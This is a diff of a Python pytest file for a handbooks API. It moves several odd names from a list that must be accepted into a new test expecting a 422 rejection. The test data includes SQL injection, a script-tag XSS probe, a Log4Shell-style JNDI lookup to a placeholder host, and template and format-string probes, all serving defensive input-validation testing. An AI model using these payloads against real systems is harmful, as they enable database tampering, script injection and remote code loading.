@@ -188,10 +188,7 @@ def test_an_unknown_field_is_a_problem_of_its_own(field: str) -> None:
     "name",
     [
         "Robert'); DROP TABLE students;--",
-        "<script>alert(1)</script>",
-        "${jndi:ldap://example.invalid/a}",
         "{{7*7}} %s %n \\u0000",
-        "👶🏽 Bé",
         "אבא محمد",
         "x" * 100,
         "null",
@@ -204,6 +201,15 @@ def test_a_strange_name_is_a_name(name: str) -> None:
     told = {key: value for key, value in opened.body.items() if key != "possible_duplicates"}
     assert MOTHER.get(f"/v1/handbooks/{opened.body['handbook_id']}").body == told
     assert MOTHER.get("/v1/handbooks").body["items"] == [told]
+
+
+@pytest.mark.parametrize("name", ["<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "👶🏽 Bé", "12"])
+def test_what_has_signs_that_no_name_has_is_refused(name: str) -> None:
+    before = everything()
+
+    refused(send("/v1/handbooks", {**CHILD, "full_name": name}), 422, "invalid-field", "full_name")
+
+    assert everything() == before
 
 
 def test_a_name_with_half_a_letter_is_refused() -> None:
